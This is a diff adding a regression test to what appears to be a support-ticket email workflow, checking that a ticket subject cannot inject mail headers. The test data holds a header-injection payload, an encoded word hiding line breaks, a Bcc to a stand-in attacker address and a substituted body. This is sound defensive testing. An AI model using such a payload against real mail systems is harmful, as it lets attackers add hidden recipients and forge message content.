@@ -263,3 +263,24 @@ async def test_a_login_is_never_sent_in_the_clear_when_tls_is_auto() -> None:
 
     assert logins == []
     assert "STARTTLS extension not supported by server" in unavailable.value.reason
+
+
+async def test_a_subject_holding_an_encoded_word_adds_no_header_recipient_or_body(
+    dev_env: WorkflowEnvironment, task_queue: str, tmp_path: Path
+) -> None:
+    # The e-mail package decodes RFC 2047 words in a header it is given: "=0D=0A" became a line
+    # break, written out as one on Pythons without the CVE-2024-6923 fix (3.11.7): whoever wrote
+    # the ticket added a Bcc (a recipient the relay sent to) and replaced the answer's body.
+    injected = "Cannot reset my password =?utf-8?q?x=0D=0ABcc:_a@evil.example=0D=0A=0D=0Afake?="
+    ticket = make_ticket(customer_email="c@example.com", subject=injected)
+    with smtp_server() as server:
+        async with delivering(dev_env.client, task_queue, tmp_path, email(server)):
+            [view] = await run_tickets(dev_env.client, task_queue, [ticket], S.COMPLETED)
+
+    [message] = server.mailbox.messages
+    assert server.mailbox.recipients == [["c@example.com"]]
+    assert message["Bcc"] is None
+    # The customer's subject as typed, one line.
+    assert message["Subject"].replace("\u200b", "") == f"Re: {injected} [{ticket.ticket_id}]"
+    body = message.get_payload(decode=True).decode().replace("\r\n", "\n")
+    assert body.strip() == view.draft.text.strip()
